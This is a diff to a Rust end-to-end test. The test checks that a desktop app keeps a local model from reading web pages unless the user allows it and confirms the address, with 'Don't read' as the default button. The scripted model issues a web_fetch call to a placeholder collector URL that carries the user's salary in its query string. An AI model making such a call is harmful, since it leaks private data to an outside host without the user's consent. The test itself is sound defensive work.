@@ -78,3 +78,43 @@ async fn a_server_that_one_enters_needs_its_key_and_offers_its_models() -> Outco
     assert!(!stage.data_holds("a-made-up-secret"), "the key is in the keyring only");
     Ok(())
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_model_reads_no_web_page_that_the_user_has_not_seen_the_address_of() -> Outcome {
+    const ADDRESS: &str = "https://harbour.example/collect?text=My+salary+is+50000";
+    let stage = Stage::start(Keyring::Absent).await?;
+    let ollama = ModelServer::start(Program::Ollama, vec![PlayedModel::new("qwen3:8b")]).await;
+    let session = Session::default().with("PARLANCE_MODEL_SERVERS", &ollama.url());
+    let window = stage.open_in(&session).await?;
+    window.press("button", "Use Ollama").await?;
+    window.says("qwen3:8b writes the answers and cites your documents.").await?;
+    ollama.call("web_fetch", &format!("{{\"url\":\"{ADDRESS}\"}}"));
+    ollama.say(&["I have no web."]);
+    ask(&window, "What do I pay in tax?").await?;
+    assert!(
+        complete_answer(&window).await?.words.contains("I have no web."),
+        "nobody is asked while it is off"
+    );
+
+    window.press("button", "Settings").await?;
+    window.press("button", "On this computer").await?;
+    window.press("switch", "Let models read web pages").await?;
+    window.says("can contain text from your questions").await?;
+    shoot(&window, "4-web-pages").await?;
+    assert_eq!(window.accessibility_findings().await?, Vec::<String>::new());
+    window.keys(&["Escape"]).await?;
+    window.gone("dialog", "Settings").await?;
+    ollama.call("web_fetch", &format!("{{\"url\":\"{ADDRESS}\"}}"));
+    ollama.say(&["I was not allowed to look."]);
+    ask(&window, "And now?").await?;
+    let dialog = window.find("alertdialog", "Let the model read this page?").await?;
+    assert!(window.text(Some(&dialog)).await?.contains(ADDRESS));
+    assert_eq!(window.focused().await?, ("button".to_owned(), "Don’t read".to_owned()));
+    shoot(&window, "5-page-request").await?;
+    assert_eq!(window.accessibility_findings().await?, Vec::<String>::new());
+    window.keys(&["Return"]).await?;
+    window.gone("alertdialog", "Let the model read this page?").await?;
+    let is_said = |answer: &parlance_driver::Message| answer.words.contains("I was not allowed to look.");
+    window.answer_when("the model answers without the page", ANSWER_LIMIT, is_said).await?;
+    Ok(())
+}
